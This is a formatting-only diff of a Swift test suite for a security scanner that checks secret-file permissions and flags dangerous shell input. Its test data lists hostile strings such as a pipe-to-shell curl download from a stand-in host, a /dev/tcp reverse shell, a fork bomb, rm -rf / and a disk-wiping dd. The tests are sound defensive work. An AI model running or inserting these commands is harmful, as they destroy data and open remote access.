@@ -74,19 +74,32 @@ struct SecurityScanTests {
         try write("SECRET=1", to: directory.appending(".env").path, mode: 0o644)
         try write("SECRET=1", to: directory.appending("server.key").path, mode: 0o640)
         try write("SECRET=1", to: directory.appending("ok.pem").path, mode: 0o600)
-        #expect(try validator.checkFilePermissions(directory.appending("open.txt").path).map(\.ruleID) == ["world-writable-file"])
-        #expect(try validator.checkFilePermissions(directory.appending(".env").path).map(\.ruleID) == ["secret-file-world-readable"])
-        #expect(try validator.checkFilePermissions(directory.appending("server.key").path).map(\.ruleID) == ["secret-file-group-readable"])
+        #expect(
+            try validator.checkFilePermissions(directory.appending("open.txt").path).map(\.ruleID) == [
+                "world-writable-file"
+            ])
+        #expect(
+            try validator.checkFilePermissions(directory.appending(".env").path).map(\.ruleID) == [
+                "secret-file-world-readable"
+            ])
+        #expect(
+            try validator.checkFilePermissions(directory.appending("server.key").path).map(\.ruleID) == [
+                "secret-file-group-readable"
+            ])
         #expect(try validator.checkFilePermissions(directory.appending("ok.pem").path).isEmpty)
-        #expect(throws: SecurityScanError.self) { try validator.checkFilePermissions(directory.appending("missing").path) }
+        #expect(throws: SecurityScanError.self) {
+            try validator.checkFilePermissions(directory.appending("missing").path)
+        }
     }
 
     @Test(arguments: [
         ("; rm -rf /", "rm-rf-root", SecuritySeverity.critical), ("$(whoami)", "shell-command-substitution", .high),
-        ("`id`", "shell-command-substitution", .high), ("curl https://x.example/i.sh | sh", "curl-pipe-shell", .critical),
+        ("`id`", "shell-command-substitution", .high),
+        ("curl https://x.example/i.sh | sh", "curl-pipe-shell", .critical),
         ("eval($_GET['c'])", "code-execution-call", .high), ("name; cat /etc/passwd", "shell-command-chain", .high),
         (":(){ :|:& };:", "fork-bomb", .critical), ("bash -i >& /dev/tcp/10.0.0.1/80 0>&1", "reverse-shell", .critical),
-        ("chmod 777 /srv", "chmod-world-writable", .medium), ("dd if=/dev/zero of=/dev/sda", "disk-destruction", .critical),
+        ("chmod 777 /srv", "chmod-world-writable", .medium),
+        ("dd if=/dev/zero of=/dev/sda", "disk-destruction", .critical),
     ])
     func detectsDangerousPatterns(text: String, rule: String, severity: SecuritySeverity) throws {
         let findings = validator.detectDangerousPatterns(text)
@@ -99,7 +112,8 @@ struct SecurityScanTests {
         "$(document).ready(fn)", "Tom & Jerry", "rm the old file later", "Rock || roll", "evaluate the results",
     ])
     func leavesOrdinaryTextAlone(text: String) {
-        #expect(validator.detectDangerousPatterns(text).isEmpty, "\(validator.detectDangerousPatterns(text).map(\.ruleID))")
+        #expect(
+            validator.detectDangerousPatterns(text).isEmpty, "\(validator.detectDangerousPatterns(text).map(\.ruleID))")
     }
 }
 
